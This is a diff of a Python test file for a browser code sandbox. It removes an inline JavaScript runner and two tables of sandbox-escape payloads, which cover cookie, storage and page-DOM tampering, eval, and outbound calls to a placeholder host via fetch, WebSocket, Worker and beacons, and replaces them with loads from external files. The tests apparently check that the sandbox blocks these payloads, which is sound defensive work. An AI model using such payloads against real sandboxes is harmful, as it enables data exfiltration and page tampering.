@@ -35,24 +35,7 @@ TABLE = tomllib.loads(Path(__file__).with_name("programs.toml").read_text("utf-8
 PROGRAMS = {name: f"{READ}{body}\n" for name, body in TABLE["bodies"].items()}
 PROGRAMS |= {name: whole.replace("SOLVE", SOLVE) for name, whole in TABLE["whole"].items()}
 pytestmark = pytest.mark.slow
-RUN = """
-const [source, seconds, done] = arguments;
-(async () => {
-  const { Sandbox, python } = await import("./page.js");
-  window.sandbox ??= new Sandbox();
-  const encoder = new TextEncoder();
-  const { in: input } = await python.call("case", "nim", "three-lost");
-  const ended = await sandbox.run({ source: encoder.encode(source), input: encoder.encode(input) }, seconds, true);
-  const judged = [];
-  for (const language of ["en_US.UTF-8", "zh_TW.UTF-8"]) {
-    await python.call("speak", language);
-    judged.push(await python.call("verdict", "nim", "three-lost", seconds, ended.status ?? 1, ended.exceeded ?? "",
-      ended.wall, ended.cannot, ended.output, ended.errors));
-  }
-  const text = (bytes) => new TextDecoder().decode(bytes);
-  return { judged, output: text(ended.output), errors: text(ended.errors) };
-})().then(done, (error) => done({ failed: String(error.stack) }));
-"""
+RUN = Path(__file__).with_name("run.js").read_text("utf-8")
 
 
 def run(page: Page, source: str, seconds: int = SECONDS) -> dict[str, Any]:
@@ -103,30 +86,7 @@ def other() -> Iterator[tuple[str, list[str]]]:
         yield f"127.0.0.1:{port}", asked
 
 
-HOSTILE = {
-    "caches": "js.caches.open('cardjudge').then(lambda c: c.put('./', js.Response.new('PWNED')))",
-    "service worker": "js.navigator.serviceWorker.register('offline.js')",
-    "storage": "js.localStorage.setItem('pwned', '1')",
-    "database": "js.indexedDB.open('pwned')",
-    "cookies": "js.document.cookie = 'pwned=1'",
-    "document of the page": "js.parent.document.body.innerHTML = 'PWNED'",
-    "document of the frame": "js.document.body.innerHTML = 'PWNED'",
-    "evaluation": "js.eval('1 + 1')",
-    "import of scripts": "js.importScripts('http://OTHER/')",
-    "waiting request": "x = js.XMLHttpRequest.new(); x.open('GET', 'http://OTHER/', False); x.send()",
-    "request to the page": "x = js.XMLHttpRequest.new(); x.open('GET', 'PAGE' + 'cases.zip', False); x.send()",
-}
-"""Attacks that have to fail at once: a line after each says that it went through."""
-SILENT = {
-    "fetch": "js.self.fetch = None\ndel js.self.fetch\njs.fetch('http://OTHER/')",
-    "own fetch": "js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)).fetch",
-    "socket": "js.WebSocket.new('ws://OTHER/')",
-    "events": "js.EventSource.new('http://OTHER/')",
-    "worker": "js.Worker.new(js.URL.createObjectURL(js.Blob.new(['fetch(\"http://OTHER/\")'])))",
-    "beacon": "js.navigator.sendBeacon('http://OTHER/')",
-    "channel": "js.BroadcastChannel.new('cardjudge').postMessage('PWNED')",
-}
-"""Attacks whose failure nobody tells: the other host has to hear nothing of them."""
+HOSTILE, SILENT = TABLE["hostile"], TABLE["silent"]
 
 
 @pytest.mark.parametrize("name", [*HOSTILE, *SILENT])
